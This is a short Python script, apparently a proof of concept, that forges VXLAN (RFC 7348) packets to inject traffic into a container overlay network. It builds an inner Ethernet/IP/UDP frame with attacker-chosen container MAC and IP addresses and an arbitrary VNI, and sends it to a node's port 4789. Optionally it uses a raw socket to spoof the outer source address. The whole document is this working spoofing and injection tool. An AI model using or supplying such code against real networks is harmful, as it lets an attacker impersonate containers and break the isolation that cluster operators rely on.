"""An overlay packet as anybody can make one: forged.py NODE VNI FROM-MAC FROM-IP TO-MAC TO-IP TEXT [SOURCE]: a datagram with TEXT for port 9999, in
Ethernet, in VXLAN (RFC 7348), to NODE's port 4789; with SOURCE from that address, whosoever it is. FROM and TO are containers."""
import socket, struct, sys

node, vni, from_mac, from_ip, to_mac, to_ip, text = sys.argv[1:8]


def ip(source, target, payload):
    def head(checksum):
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, socket.IPPROTO_UDP, checksum, socket.inet_aton(source), socket.inet_aton(target))

    words = sum(struct.unpack("!10H", head(0)))
    words = (words & 0xFFFF) + (words >> 16)
    return head(~(words + (words >> 16)) & 0xFFFF) + payload


def udp(port, payload):
    return struct.pack("!HHHH", 9999, port, 8 + len(payload), 0) + payload


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


frame = mac(to_mac) + mac(from_mac) + b"\x08\x00" + ip(from_ip, to_ip, udp(9999, text.encode()))
packet = struct.pack("!II", 0x08000000, int(vni) << 8) + frame
if len(sys.argv) > 8:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(ip(sys.argv[8], node, udp(4789, packet)), (node, 0))
else:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, (node, 4789))
